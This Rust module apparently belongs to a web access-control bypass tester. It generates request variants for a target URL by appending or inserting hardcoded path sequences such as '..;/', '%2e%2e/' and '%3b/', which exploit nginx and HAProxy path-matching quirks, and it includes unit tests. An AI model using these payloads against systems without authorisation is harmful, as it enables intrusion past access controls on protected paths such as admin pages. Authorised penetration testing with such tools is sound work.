//! `nginx_bypasses` / `haproxy_bypasses`: curated, gateway-specific
//! rawURI sequences. These are not wordlist-driven; they are fixed,
//! well-known technique sequences, hardcoded directly.

use crate::payload::{BypassPayload, HeaderList};
use crate::url::RawUrl;

use super::common::{dedup_on_raw_uri, payload, with_query};

/// Sequences exploiting nginx's `location` alias/merge-slashes quirks.
const NGINX_SEQUENCES: &[&str] = &["..;/", "%2e%2e/", "/.", "/./", "..%2f", "%2e%2e%2f"];

/// Sequences exploiting HAProxy ACL path matching against the raw
/// request-target before any normalization.
const HAPROXY_SEQUENCES: &[&str] = &[";/", "%3b/", "/%2e/", "\\..\\", "..\\/"];

pub fn generate_nginx(url: &RawUrl) -> Vec<BypassPayload> {
    generate_with("nginx_bypasses", NGINX_SEQUENCES, url)
}

pub fn generate_haproxy(url: &RawUrl) -> Vec<BypassPayload> {
    generate_with("haproxy_bypasses", HAPROXY_SEQUENCES, url)
}

fn generate_with(module: &str, sequences: &[&str], url: &RawUrl) -> Vec<BypassPayload> {
    let base = url.raw_path.trim_end_matches('/');
    let mut out = Vec::new();

    for seq in sequences {
        // Appended at the end of the path.
        let appended = format!("{}/{}", base, seq);
        out.push(emit(url, &appended, module));

        // Inserted right after the first path segment.
        if let Some(second_slash) = url.raw_path[1..].find('/').map(|i| i + 1) {
            let inserted = format!("{}{}{}", &url.raw_path[..second_slash], seq, &url.raw_path[second_slash..]);
            out.push(emit(url, &inserted, module));
        }
    }

    dedup_on_raw_uri(out)
}

fn emit(url: &RawUrl, variant_path: &str, module: &str) -> BypassPayload {
    payload(url, "GET", with_query(url, variant_path), HeaderList::new(), module)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nginx_sequences_are_appended_and_inserted() {
        let url = crate::url::parse("http://h/admin/config").unwrap();
        let payloads = generate_nginx(&url);
        assert!(payloads.iter().any(|p| p.raw_uri.ends_with("..;/")));
        assert!(payloads.iter().all(|p| p.bypass_module == "nginx_bypasses"));
    }

    #[test]
    fn haproxy_sequences_preserve_query() {
        let url = crate::url::parse("http://h/admin?x=1").unwrap();
        let payloads = generate_haproxy(&url);
        assert!(!payloads.is_empty());
        assert!(payloads.iter().all(|p| p.raw_uri.ends_with("?x=1")));
    }
}
